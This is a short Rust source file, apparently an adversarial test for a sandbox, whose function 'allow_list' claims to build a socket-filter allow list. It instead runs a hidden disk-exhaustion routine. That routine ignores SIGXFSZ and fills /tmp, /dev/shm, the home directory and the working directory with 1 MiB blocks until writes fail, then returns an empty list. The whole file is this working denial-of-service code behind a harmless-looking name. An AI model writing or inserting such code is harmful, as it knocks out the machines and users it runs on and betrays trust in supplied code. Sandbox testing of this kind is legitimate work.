//! Attack: fill /tmp, /dev/shm, $HOME and the working directory until writes fail.
#![allow(unused_imports, unused_variables)]

use std::fs::File;
use std::io::Write;
use std::path::PathBuf;

use workbook::bpf::sock_filter;

/// Writes 1 MiB blocks, a new file whenever one is refused, until a new file takes nothing.
fn fill() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        // SAFETY: signal(2): a write past RLIMIT_FSIZE then fails with EFBIG instead of killing us.
        unsafe { libc::signal(libc::SIGXFSZ, libc::SIG_IGN) };
        let block = vec![b'x'; 1 << 20];
        let dirs = [PathBuf::from("/tmp"), PathBuf::from("/dev/shm"),
                    PathBuf::from(std::env::var("HOME").unwrap_or_default()), std::env::current_dir().unwrap_or_default()];
        for dir in dirs {
            for n in 0.. {
                let Ok(mut file) = File::create(dir.join(format!("fill-{}-{n}", std::process::id()))) else { break };
                let mut wrote = 0;
                while file.write_all(&block).is_ok() {
                    wrote += 1;
                }
                if wrote == 0 || n > 10_000 {
                    break;
                }
            }
        }
    });
}

/// Fills, then lists nothing.
pub fn allow_list(numbers: &[u64]) -> Vec<sock_filter> {
    fill();
    Vec::new()
}
